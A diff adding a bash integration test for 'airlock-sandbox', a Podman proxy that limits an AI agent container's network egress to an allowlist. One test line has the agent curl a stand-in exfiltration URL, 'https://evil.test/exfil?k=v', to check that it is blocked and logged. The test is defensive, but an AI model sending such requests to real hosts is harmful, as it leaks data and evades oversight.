@@ -1,0 +1,345 @@
+#!/bin/bash
+# The proxy container and its Podman lifecycle, with real podman: build the FROM-scratch image,
+# `airlock-sandbox setup/start/client-args/run/stop/cleanup`, and an agent container (a
+# FROM-scratch image holding curl, getent and their shared libraries) on the internal network.
+#
+# Hermetic: everything runs in network and mount namespaces of the test's own (bridges,
+# iptables rules, /run/netns, /run/runc and netavark's state on tmpfs), with a containers.conf,
+# storage, network config directory and lock directory in the test's temp dir. Upstreams: nginx
+# (test CA) and dnsmasq (*.test -> the egress gateway) on the egress bridge's gateway address,
+# which the proxy reaches through the egress network; UPSTREAM_DNS is that address.
+#
+# The static airlock: $AIRLOCK when it is static, else $AIRLOCK_STATIC_BINARY, else a Release
+# build with -DAIRLOCK_STATIC=ON in $AIRLOCK_BUILD/container-static (AIRLOCK_CMAKE_ARGS adds
+# cmake arguments). Exit 77 (with the reason) when podman cannot run containers here.
+. "$(dirname "$0")/lib.sh"
+
+c_skip() {
+    echo "SKIP: test_container: $*" >&2
+    echo "SKIP: test_container: $*"
+    exit 77
+}
+if [ -z "${AIRLOCK_IN_NETNS:-}" ]; then
+    [ "$(id -u)" = 0 ] || c_skip "needs root (podman networks, namespaces)"
+    for tool in podman runc flock timeout readelf strip; do
+        command -v "$tool" >/dev/null || c_skip "$tool is not installed (apt-get install podman runc)"
+    done
+fi
+t_enter_netns "$@"
+
+SANDBOX=$AIRLOCK_SRC/container/airlock-sandbox
+BUILD_IMAGE=$AIRLOCK_SRC/container/build-image.sh
+P=alt   # the name prefix of everything this test creates
+export AIRLOCK_PREFIX=$P AIRLOCK_STATE_DIR=$T_DIR/state AIRLOCK_CONFDIR=$T_DIR/confdir
+export AIRLOCK_IMAGE=localhost/alt-proxy:latest AIRLOCK_IMAGE_NAME=localhost/alt-proxy
+
+# ---- a private podman -------------------------------------------------------------------
+for d in /run/netns /run/runc /run/containers; do
+    if ! { mkdir -p "$d" && mount -t tmpfs -o mode=0755 tmpfs "$d"; }; then
+        echo "FAIL: cannot mount a private $d"; exit 1
+    fi
+done
+mkdir -p "$T_DIR/podman/networks" "$T_DIR/podman/tmp"
+cat > "$T_DIR/podman/containers.conf" <<EOF
+[containers]
+default_ulimits = []
+[engine]
+runtime = "runc"
+cgroup_manager = "cgroupfs"
+events_logger = "file"
+events_logfile_path = "$T_DIR/podman/events.log"
+tmp_dir = "$T_DIR/podman/tmp"
+[network]
+network_config_dir = "$T_DIR/podman/networks"
+EOF
+cat > "$T_DIR/podman/storage.conf" <<EOF
+[storage]
+driver = "overlay"
+graphroot = "$T_DIR/podman/root"
+runroot = "$T_DIR/podman/runroot"
+EOF
+export CONTAINERS_CONF=$T_DIR/podman/containers.conf
+export CONTAINERS_STORAGE_CONF=$T_DIR/podman/storage.conf
+
+c_cleanup() {
+    "$SANDBOX" teardown >/dev/null 2>&1
+    podman rm -af -t 0 >/dev/null 2>&1
+    podman network ls --format '{{.Name}}' 2>/dev/null | grep -v '^podman$' |
+        xargs -r podman network rm -f >/dev/null 2>&1
+    podman rmi -af >/dev/null 2>&1
+    # the overlay mounts live in this mount namespace; drop them before removing the files
+    grep -o " $T_DIR/[^ ]*" /proc/self/mounts | sort -r | xargs -r -n1 umount -l 2>/dev/null
+    t_cleanup
+}
+trap c_cleanup EXIT
+
+# ---- the images ---------------------------------------------------------------------------
+if ! readelf -lW "$AIRLOCK" 2>/dev/null | grep -q 'program interpreter'; then
+    STATIC=$AIRLOCK
+elif [ -n "${AIRLOCK_STATIC_BINARY:-}" ]; then
+    STATIC=$AIRLOCK_STATIC_BINARY
+else
+    STATIC_DIR=${AIRLOCK_BUILD:-$AIRLOCK_SRC/build}/container-static
+    echo "# building a static airlock in $STATIC_DIR"
+    "$BUILD_IMAGE" --build-dir "$STATIC_DIR" > /dev/null 2> "$T_DIR/build-image.log" || {
+        echo "FAIL - the static build:"; tail -n 30 "$T_DIR/build-image.log"; exit 1; }
+    STATIC=$STATIC_DIR/airlock
+fi
+t0=$(date +%s)
+IMG=$("$BUILD_IMAGE" --binary "$STATIC" 2>> "$T_DIR/build-image.log")
+rc=$?
+if [ $rc -ne 0 ] || [ -z "$IMG" ]; then
+    echo "FAIL - build-image.sh (rc $rc):"; tail -n 30 "$T_DIR/build-image.log"
+    exit 1
+fi
+t_ok "image $IMG built in $(($(date +%s) - t0)) s"
+
+# Can podman run a container here at all? If not, say why and skip.
+if ! out=$(podman run --rm --network none --entrypoint /airlock "$IMG" --version 2>&1); then
+    c_skip "podman cannot run containers here: $(echo "$out" | tail -n 3 | tr '\n' ' ')"
+fi
+t_eq "the image runs the static airlock" "airlock" "${out%% *}"
+
+size=$(podman image inspect --format '{{.Size}}' "$IMG")
+if [ "$size" -lt $((15 * 1000 * 1000)) ]; then t_ok "image size $size bytes (< 15 MB)"
+else t_fail "image size $size bytes (>= 15 MB)"; fi
+podman create --name "$P-inspect" "$IMG" >/dev/null 2>&1
+files=$(podman export "$P-inspect" | tar -t | grep -v '/$' | grep -v -e '^etc/' -e '^run/' \
+    -e '^dev/' -e '^proc/' -e '^sys/' | sort | tr '\n' ' ')
+podman rm -f "$P-inspect" >/dev/null 2>&1
+t_eq "the image holds the binary and the CA bundle only" "airlock usr/lib/ssl/cert.pem " "$files"
+out=$(podman run --rm --network none "$IMG" 2>&1)
+rc=$?
+t_eq "no UPSTREAM_DNS: exit 1" 1 "$rc"
+t_contains "no UPSTREAM_DNS: says so" "$out" "UPSTREAM_DNS"
+
+# The agent image: curl, getent and dash with their shared libraries and the loader.
+mkdir -p "$T_DIR/client/root"
+for bin in /usr/bin/curl /usr/bin/getent /bin/dash; do
+    for f in "$bin" $(ldd "$bin" | awk '/=> \// { print $3 } /^\t\// { print $1 }'); do
+        mkdir -p "$T_DIR/client/root$(dirname "$f")"
+        cp -L "$f" "$T_DIR/client/root$f"
+    done
+done
+mkdir -p "$T_DIR/client/root/tmp"
+printf 'FROM scratch\nCOPY root/ /\n' > "$T_DIR/client/Containerfile"
+podman build -q --pull=never -t localhost/alt-client:latest -f "$T_DIR/client/Containerfile" \
+    "$T_DIR/client" > "$T_DIR/client.log" 2>&1 || { cat "$T_DIR/client.log"; exit 1; }
+CLIENT=localhost/alt-client:latest
+
+# ---- setup --------------------------------------------------------------------------------
+out=$("$SANDBOX" setup 2>&1)
+t_eq "setup" 0 $?
+t_check "setup made the CA" test -s "$T_DIR/confdir/mitmproxy-ca-cert.pem"
+t_check "setup made the egress network" podman network exists "$P-egress"
+out=$("$SANDBOX" setup 2>&1)
+t_eq "setup again keeps everything" 0 $?
+GW=$(podman network inspect "$P-egress" --format '{{range .Subnets}}{{.Gateway}}{{end}}')
+t_check "egress gateway $GW" test -n "$GW"
+
+# Upstreams on the gateway address (the bridge appears with the first container).
+sysctl -qw net.ipv4.ip_nonlocal_bind=1
+dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null \
+    --listen-address="$GW" --bind-dynamic --port=53 --address=/test/"$GW" \
+    --log-facility=- -q > "$T_DIR/dnsmasq.log" 2>&1 &
+T_PIDS+=($!)
+t_upstream_ca
+t_upstream_cert "DNS:nginx.test,DNS:api.test" "$T_DIR/up"
+mkdir -p "$T_DIR/www"
+echo "hello from upstream" > "$T_DIR/www/index.html"
+chmod -R a+rX "$T_DIR/www" "$T_DIR"/up.* "$T_DIR/upca.pem"
+t_start_nginx "
+    }
+    server {
+        listen $GW:80;
+        root $T_DIR/www;
+    }
+    server {
+        listen $GW:443 ssl;
+        ssl_certificate $T_DIR/up.pem; ssl_certificate_key $T_DIR/up.key;
+        root $T_DIR/www;
+" || exit 1
+
+cat > "$T_DIR/allow.yaml" <<'YAML'
+domains: ["nginx.test"]
+url_prefixes:
+  - host: api.test
+    path: /v1/*
+    methods: [GET]
+YAML
+
+# ---- start --------------------------------------------------------------------------------
+LOG=$T_DIR/c1.log
+t0=$(date +%s%N)
+IP1=$("$SANDBOX" start c1 --allowlist "$T_DIR/allow.yaml" --log "$LOG" --upstream-dns "$GW" \
+    --upstream-ca "$T_DIR/upca.pem" 2> "$T_DIR/start.err")
+rc=$?
+ms=$((($(date +%s%N) - t0) / 1000000))
+t_eq "start c1" "0|" "$rc|$(cat "$T_DIR/start.err")"
+t_eq "start c1 prints the proxy IP" "10.199.1.100" "$IP1"
+echo "# start took $ms ms"
+t_check "the log file was created on the host" test -f "$LOG"
+t_eq "proxy container runs" "running" \
+    "$(podman container inspect -f '{{.State.Status}}' "$P-proxy-c1" 2>&1)"
+t_eq "internal network is internal, without DNS" "true false 10.199.1.0/24" \
+    "$(podman network inspect "$P-conv-c1" \
+        --format '{{.Internal}} {{.DNSEnabled}} {{range .Subnets}}{{.Subnet}}{{end}}')"
+
+mapfile -t CARGS < <("$SANDBOX" client-args c1)
+t_eq "client-args" "--network $P-conv-c1 --dns 10.199.1.100 -v $T_DIR/confdir/mitmproxy-ca-cert.pem:/usr/local/share/ca-certificates/airlock-ca.crt:ro -e NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/airlock-ca.crt -e REQUESTS_CA_BUNDLE=/usr/local/share/ca-certificates/airlock-ca.crt -e SSL_CERT_FILE=/usr/local/share/ca-certificates/airlock-ca.crt -e CURL_CA_BUNDLE=/usr/local/share/ca-certificates/airlock-ca.crt" \
+    "${CARGS[*]}"
+eval "set -- $("$SANDBOX" client-args c1 --shell)"
+t_eq "client-args --shell gives the same words" "${CARGS[*]}" "$*"
+
+client() { podman run --rm "${CARGS[@]}" "$CLIENT" "$@" 2>&1; }
+
+out=$(client curl -s -m 10 -w ' %{http_code}' https://nginx.test/)
+t_eq "agent: allowed HTTPS host answers 200 through the proxy" "hello from upstream
+ 200" "$out"
+out=$(client curl -s -m 10 -w ' %{http_code}' http://nginx.test/)
+t_eq "agent: allowed plain HTTP" "hello from upstream
+ 200" "$out"
+out=$(client curl -s -m 10 -w ' %{http_code}' https://evil.test/exfil?k=v)
+t_contains "agent: blocked host gets the 403 JSON" "$out" \
+    '"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?k=v"'
+t_contains "agent: blocked is a 403" "$out" " 403"
+out=$(client curl -s -m 10 -o /dev/null -w '%{http_code}' -X POST https://api.test/v1/x)
+t_eq "agent: method not allowed is a 403" "403" "$out"
+
+for url in https://198.51.100.1/ http://198.51.100.1/ http://nginx.test:8080/ \
+    https://nginx.test:8443/; do
+    t0=$(date +%s%N)
+    out=$(client curl -s -m 20 -o /dev/null -w '%{http_code}' "$url")
+    rc=$?
+    ms=$((($(date +%s%N) - t0) / 1000000))
+    if [ "$out" = "000" ] && [ "$rc" -ne 0 ] && [ "$ms" -lt 3000 ]; then
+        t_ok "agent: $url fails fast ($ms ms incl. container start, curl exit $rc)"
+    else
+        t_fail "agent: $url: [$out] rc $rc after $ms ms"
+    fi
+done
+
+out=$(client getent ahostsv4 some-random-name.example.org)
+t_contains "agent DNS: any name is the proxy IP" "$out" "10.199.1.100"
+out=$(client getent ahostsv4 github.com)
+t_contains "agent DNS: real names too" "$out" "10.199.1.100"
+out=$(client curl -s -m 10 -o /dev/null -w '%{remote_ip}' http://whatever.example/)
+t_eq "agent: connections land on the proxy" "10.199.1.100" "$out"
+
+sleep 0.3
+t_check "log: allowed HTTPS" grep -qx 'allowed GET https://nginx.test/ -> 200' "$LOG"
+t_check "log: allowed HTTP" grep -qx 'allowed GET http://nginx.test/ -> 200' "$LOG"
+t_check "log: blocked" grep -qx 'BLOCKED GET https://evil.test/exfil?k=v -> 403' "$LOG"
+t_check "log: blocked method" grep -qx 'BLOCKED POST https://api.test/v1/x -> 403' "$LOG"
+t_check "log: DNS" grep -qx 'DNS A some-random-name.example.org -> 10.199.1.100' "$LOG"
+t_check "log: task start" grep -q '^=== TASK START ' "$LOG"
+if grep -q 198.51.100.1 "$LOG"; then t_fail "the external IP reached the proxy"
+else t_ok "the external IP never reached the proxy"; fi
+
+# The binary's default verify file is /usr/lib/ssl/cert.pem: an image whose bundle is the test
+# CA verifies the upstream without --upstream-ca.
+IMG2=$("$BUILD_IMAGE" --binary "$STATIC" --name localhost/alt-proxy-testca \
+    --ca-bundle "$T_DIR/upca.pem" 2>> "$T_DIR/build-image.log")
+IP2=$(AIRLOCK_IMAGE=$IMG2 "$SANDBOX" start c2 --allowlist "$T_DIR/allow.yaml" \
+    --upstream-dns "$GW" 2> "$T_DIR/start2.err")
+t_eq "start c2 (image with the test CA as its bundle) on the next subnet" "10.199.2.100|" \
+    "$IP2|$(cat "$T_DIR/start2.err")"
+mapfile -t CARGS2 < <("$SANDBOX" client-args c2)
+out=$(podman run --rm "${CARGS2[@]}" "$CLIENT" curl -s -m 10 -w ' %{http_code}' \
+    https://nginx.test/ 2>&1)
+t_eq "the default bundle path verifies upstreams" "hello from upstream
+ 200" "$out"
+"$SANDBOX" stop c2
+
+# ---- stop ---------------------------------------------------------------------------------
+t_eq "stop c1" "0" "$("$SANDBOX" stop c1 2>&1; echo $?)"
+t_eq "no container left" "" "$(podman ps -a --format '{{.Names}}' | grep "^$P-proxy-")"
+t_eq "no sandbox network left" "" "$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"
+t_check "the log is kept" grep -q 'allowed GET https://nginx.test/ -> 200' "$LOG"
+t_eq "stop is idempotent" "0" "$("$SANDBOX" stop c1 2>&1; echo $?)"
+t_eq "stop of an unknown sandbox" "0" "$("$SANDBOX" stop never-started 2>&1; echo $?)"
+out=$("$SANDBOX" client-args c1 2>&1)
+t_eq "client-args of a stopped sandbox fails" "1" "$?"
+t_contains "client-args of a stopped sandbox says why" "$out" "no sandbox c1"
+
+# ---- subnets: a taken /24 is skipped; concurrent starts get distinct subnets --------------
+podman network create --internal --subnet 10.199.4.0/24 "$P-blocker" >/dev/null
+echo 3 > "$T_DIR/state/last-octet"
+IP=$("$SANDBOX" start s1 --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" 2>&1)
+t_eq "a subnet in use is skipped" "10.199.5.100" "$IP"
+"$SANDBOX" stop s1
+podman network rm -f "$P-blocker" >/dev/null
+pids=()
+for i in 1 2 3; do
+    "$SANDBOX" start "p$i" --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" \
+        > "$T_DIR/p$i.ip" 2> "$T_DIR/p$i.err" &
+    pids+=($!)
+done
+wait "${pids[@]}"
+ips=$(cat "$T_DIR"/p?.ip | sort -u | wc -l)
+t_eq "three concurrent starts: three distinct proxies" "3|" "$ips|$(cat "$T_DIR"/p?.err)"
+for i in 1 2 3; do "$SANDBOX" stop "p$i"; done
+
+# ---- cleanup ------------------------------------------------------------------------------
+for k in k1 k2; do
+    out=$("$SANDBOX" start "$k" --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" 2>&1) ||
+        t_fail "start $k: $out"
+done
+podman network create --internal --subnet 10.199.200.0/24 "$P-conv-stale" >/dev/null
+podman kill "$P-proxy-k1" >/dev/null
+out=$("$SANDBOX" cleanup 2>&1)
+t_contains "cleanup removes the killed proxy" "$out" "removed container $P-proxy-k1"
+t_contains "cleanup removes its network" "$out" "removed network $P-conv-k1"
+t_contains "cleanup removes a network without a proxy" "$out" "removed network $P-conv-stale"
+t_eq "cleanup keeps the live sandbox" "running $P-conv-k2" \
+    "$(podman container inspect -f '{{.State.Status}}' "$P-proxy-k2") \
+$(podman network ls --format '{{.Name}}' | grep "^$P-conv-" | tr '\n' ' ' | sed 's/ $//')"
+podman network create --internal --subnet 10.199.201.0/24 "other-conv-x" >/dev/null
+out=$("$SANDBOX" cleanup --all 2>&1)
+t_contains "cleanup --all removes live sandboxes too" "$out" "removed container $P-proxy-k2"
+t_eq "cleanup leaves other prefixes alone" "other-conv-x" \
+    "$(podman network ls --format '{{.Name}}' | grep -- '-conv-')"
+podman network rm -f other-conv-x >/dev/null
+
+# ---- failures clean up after themselves ---------------------------------------------------
+echo 'domains: [unclosed' > "$T_DIR/bad.yaml"
+t0=$(date +%s)
+out=$("$SANDBOX" start bad --allowlist "$T_DIR/bad.yaml" --upstream-dns "$GW" 2>&1)
+rc=$?
+t_eq "start with an invalid allowlist fails" 1 "$rc"
+t_contains "and says why" "$out" "Proxy $P-proxy-bad exited during startup"
+t_contains "with airlock's own words" "$out" "/network-allowlist.json:2:1: did not find expected"
+if [ $(($(date +%s) - t0)) -le 7 ]; then t_ok "within the health budget"
+else t_fail "took $(($(date +%s) - t0)) s"; fi
+t_eq "nothing left behind" "" "$(podman ps -a --format '{{.Names}}' | grep "^$P-proxy-")\
+$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"
+out=$("$SANDBOX" start x 2>&1)
+t_eq "start without --allowlist: usage error" 2 "$?"
+out=$("$SANDBOX" start 'a/b' --allowlist "$T_DIR/allow.yaml" 2>&1)
+t_eq "start with a bad ID: usage error" 2 "$?"
+out=$(AIRLOCK_IMAGE=localhost/none:latest "$SANDBOX" start x --allowlist "$T_DIR/allow.yaml" \
+    --upstream-dns "$GW" 2>&1)
+t_contains "a missing image is named" "$out" "image localhost/none:latest not found"
+
+# ---- run ----------------------------------------------------------------------------------
+out=$("$SANDBOX" run r1 --allowlist "$T_DIR/allow.yaml" --log "$T_DIR/r1.log" \
+    --upstream-dns "$GW" --upstream-ca "$T_DIR/upca.pem" -- "$CLIENT" \
+    curl -s -m 10 https://nginx.test/ 2>&1)
+t_eq "run: the client's output" "hello from upstream" "$out"
+out=$("$SANDBOX" run r2 --allowlist "$T_DIR/allow.yaml" --upstream-dns "$GW" \
+    --client-arg -e --client-arg WHO=agent -- "$CLIENT" \
+    curl -s -f -m 10 -o /dev/null https://evil.test/ 2>&1)
+t_eq "run: exits with the client's status (curl -f on a 403: 22)" "22" "$?"
+t_check "run: its log" grep -qx 'allowed GET https://nginx.test/ -> 200' "$T_DIR/r1.log"
+out=$("$SANDBOX" run r3 --allowlist "$T_DIR/bad.yaml" --upstream-dns "$GW" -- "$CLIENT" \
+    curl -s https://nginx.test/ 2>&1)
+t_eq "run: a sandbox that cannot start exits 125" "125" "$?"
+t_eq "run: nothing left behind" "" "$(podman ps -a --format '{{.Names}}' | grep "^$P-")\
+$(podman network ls --format '{{.Name}}' | grep "^$P-conv-")"
+
+# ---- teardown -----------------------------------------------------------------------------
+out=$("$SANDBOX" teardown 2>&1)
+t_eq "teardown" 0 $?
+t_eq "teardown removed the egress network" 1 "$(podman network exists "$P-egress"; echo $?)"
+
+t_done
